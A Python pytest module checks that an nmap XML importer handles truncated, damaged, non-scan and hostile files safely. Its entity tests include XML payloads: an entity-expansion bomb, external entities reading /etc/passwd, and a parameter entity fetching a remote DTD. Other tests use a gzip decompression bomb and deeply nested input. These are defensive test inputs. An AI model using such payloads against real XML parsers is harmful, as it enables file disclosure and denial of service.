"""Files that are broken, cut off, hostile or something else give what is whole, and say what is not."""

from __future__ import annotations

import gzip
import io
import tracemalloc
from collections.abc import Iterator

import pytest

from cmdb.inventory.importer import Source, UnreadableSourceError
from cmdb.inventory.observation import Severity
from cmdb_importers.nmap import NmapImporter
from cmdb_importers.unpacking import Limits
from tests.unit.importers.nmap.scans import host, port, ports, read_scan, scan
from tests.unit.importers.reading import READ_AT, read


def test_a_file_cut_off_gives_every_complete_host_and_says_where_it_stopped() -> None:
    """Line, byte and the last complete host are named."""
    whole = scan(host(), host(address='<address addr="192.0.2.8"/>'))
    cut = whole[: whole.index(b"192.0.2.8") + 4]

    reading = read(NmapImporter(), cut)

    (problem,) = reading.problems
    assert ["192.0.2.7"] == reading.host()["ip_addresses"]
    assert "NMAP_CUT_OFF" == problem.code
    assert Severity.ERROR == problem.severity
    assert problem.position.startswith("line 5, byte ")
    assert "1 hosts, the last one '192.0.2.7' (line 4)" in problem.message


def test_every_cut_of_a_file_is_reported() -> None:
    """Wherever a file stops, the complete hosts go in and a problem or an error says so."""
    whole = scan(host(ports(port(22))), host())

    for length in range(len(whole.rstrip())):
        try:
            reading = read(NmapImporter(), whole[:length])
        except UnreadableSourceError:
            assert whole[:length].find(b"<nmaprun scanner") < 0 or length < whole.index(b">\n<host>") + 1
            continue
        assert ["NMAP_CUT_OFF"] == reading.codes
        assert whole[:length].count(b"</host>") == len(reading.observations)


def test_a_file_damaged_in_the_middle_gives_what_stands_before() -> None:
    """What follows the damage cannot be trusted to be where it seems."""
    reading = read(NmapImporter(), scan(host(), "<host><status state=up/></host>", host()))

    assert 1 == len(reading.observations)
    assert ["NMAP_DAMAGED"] == reading.codes
    assert "not well-formed" in reading.problems[0].message


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "is empty"),
        (b"   \n", "is not XML of nmap"),
        (b"Nmap scan report for localhost", "is not XML of nmap"),
        (b"\x89PNG\r\n\x1a\n\x00\x00", "is not XML of nmap"),
        (b"<html><body/></html>", "not nmaprun"),
        (b'<?xml version="1.0" encoding="klingon"?><nmaprun/>', "is not XML of nmap"),
        ('<?xml version="1.0" encoding="UTF-8"?>'.encode("utf-16"), "is not XML of nmap"),
        (b'<?xml version="1.0" encoding="utf-7"?><nmaprun/>', "is not XML of nmap"),
    ],
)
def test_a_file_that_is_no_scan_is_refused(data: bytes, words: str) -> None:
    """Nothing of it can be used."""
    with pytest.raises(UnreadableSourceError) as caught:
        read(NmapImporter(), data)

    assert words in caught.value.message


ENTITIES = [
    '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">',
    '<!ENTITY c SYSTEM "file:///etc/passwd">',
    '<!ENTITY % c SYSTEM "http://192.0.2.1/evil.dtd"> %c;',
    '<!NOTATION n SYSTEM "x"><!ENTITY c SYSTEM "file:///etc/passwd" NDATA n>',
]


@pytest.mark.parametrize("declarations", ENTITIES)
def test_entities_are_refused_before_anything_is_read(declarations: str) -> None:
    """Bombs, and references to files and other machines, are declared in the DTD; no scan declares any."""
    data = f"<!DOCTYPE nmaprun [{declarations}]><nmaprun>{host()}&c;</nmaprun>".encode()

    with pytest.raises(UnreadableSourceError) as caught:
        read(NmapImporter(), data)

    assert "entities" in caught.value.message


def test_an_entity_that_nobody_declared_is_damage() -> None:
    """There is nothing it could stand for."""
    reading = read(NmapImporter(), scan(host(), '<host comment="&c;"/>'))

    assert (1, ["NMAP_DAMAGED"]) == (len(reading.observations), reading.codes)
    assert "undefined entity" in reading.problems[0].message


def test_a_document_type_that_names_a_dtd_is_read_without_fetching_it() -> None:
    """Some tools write nmap's own DTD into the file."""
    data = b'<!DOCTYPE nmaprun SYSTEM "http://192.0.2.1/nmap.dtd"><nmaprun>' + host().encode() + b"</nmaprun>"

    assert 1 == len(read(NmapImporter(), data).observations)


def test_deep_nesting_ends_the_reading_with_a_problem() -> None:
    """Depth is bounded; hosts before it go in."""
    reading = read(NmapImporter(), scan(host(), "<host>" + "<a>" * 100_000))

    assert 1 == len(reading.observations)
    assert ["NMAP_DAMAGED"] == reading.codes
    assert "nested deeper than 64" in reading.problems[0].message


def test_a_tag_that_does_not_end_ends_the_reading_with_a_problem() -> None:
    """A single tag of many megabytes would have to be kept in memory whole."""
    reading = read(NmapImporter(), scan(host(), '<host comment="' + "x" * 6_000_000))

    assert 1 == len(reading.observations)
    assert ["NMAP_DAMAGED"] == reading.codes


def test_script_output_of_any_size_below_that_is_passed_over() -> None:
    """Output of scripts is most of a large scan, and none of it is read."""
    script = f'<hostscript><script id="x" output="{"y" * 1_000_000}"><table>{"<elem>z</elem>" * 1000}</table></script></hostscript>'

    assert [] == read_scan(host(script)).codes


def test_elements_that_nmap_does_not_write_are_passed_over() -> None:
    """Later versions may add some."""
    assert 1 == len(read_scan("<future><host/></future>", host("<future><port/></future>")).observations)


@pytest.mark.parametrize(
    "exit_state", ['exit="error" errormsg="Error resolving name"', 'errormsg="Error resolving name"']
)
def test_what_nmap_calls_an_error_is_a_warning(exit_state: str) -> None:
    """The hosts it finished are good."""
    reading = read_scan(host(), end=f"<runstats><finished time='1' {exit_state}/></runstats></nmaprun>")

    assert 1 == len(reading.observations)
    assert [("NMAP_SCAN_FAILED", Severity.WARNING)] == [(p.code, p.severity) for p in reading.problems]
    assert "Error resolving name" in reading.problems[0].message


def test_a_scan_without_hosts_is_a_clean_result() -> None:
    """Nobody was there: that is an answer."""
    reading = read_scan()

    assert ((), ()) == (reading.observations, reading.problems)


def test_a_gzip_file_is_read_by_its_content() -> None:
    """Also when it is made of several members, as parallel compressors write it."""
    whole = scan(host())
    packed = gzip.compress(whole[:100]) + gzip.compress(whole[100:])

    assert read(NmapImporter(), whole) == read(NmapImporter(), packed)


def test_a_gzip_file_cut_off_gives_the_complete_hosts() -> None:
    """The packed form of a scan that was killed."""
    hosts = [host(address=f'<address addr="10.0.{i // 250}.{i % 250}"/>') for i in range(2000)]
    packed = gzip.compress(scan(*hosts))

    reading = read(NmapImporter(), packed[: len(packed) // 2])

    assert 100 < len(reading.observations) < 2000
    assert ["NMAP_DAMAGED"] == reading.codes
    assert "gzip" in reading.problems[0].message


def test_a_decompression_bomb_is_stopped_at_the_ratio() -> None:
    """A megabyte of gzip can hold a gigabyte."""
    bomb = gzip.compress(scan(host(), "<!--" + " " * 3_000_000 + "-->"))
    limits = Limits(ratio=50, ratio_free=100_000)

    reading = read(NmapImporter(limits), bomb)

    assert 1 == len(reading.observations)
    assert "a bomb" in reading.problems[0].message


def test_the_older_encodings_are_read_when_the_file_declares_them() -> None:
    """A service name in Latin-1 is still a name."""
    data = scan(host(ports(port(80, '<service name="http" product="é"/>')))).decode()

    reading = read(NmapImporter(), data.replace("UTF-8", "ISO-8859-1").encode("latin-1"))

    assert "é" == reading.items("Endpoint")[0].attributes["product"]


class GeneratedScan(io.RawIOBase):
    """A scan of any number of hosts that is never whole in memory."""

    def __init__(self, hosts: int) -> None:
        super().__init__()
        self._pieces = self._generate(hosts)

    def readable(self) -> bool:
        return True

    def read(self, size: int = -1) -> bytes:
        return next(self._pieces, b"")

    def _generate(self, hosts: int) -> Iterator[bytes]:
        head, foot = scan("@").split(b"@")
        endpoints = ports(
            *[port(number, '<service name="x" product="y" conf="10"/>') for number in (22, 80, 443)]
        )
        yield head
        for number in range(hosts):
            yield host(
                endpoints, address=f'<address addr="10.{number >> 8 & 255}.{number & 255}.1"/>'
            ).encode()
        yield foot


def peak_of(hosts: int) -> int:
    """The most memory in use at once while so many hosts are read, in bytes."""
    source = Source("generated", GeneratedScan(hosts), READ_AT)  # type: ignore[arg-type]
    tracemalloc.start()
    try:
        assert hosts == sum(1 for _ in NmapImporter().read(source))
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.slow
def test_memory_does_not_grow_with_the_number_of_hosts() -> None:
    """Sixteen thousand hosts take what one thousand take, but for a few buffers."""
    assert peak_of(16_000) < peak_of(1_000) * 1.2 + 100_000
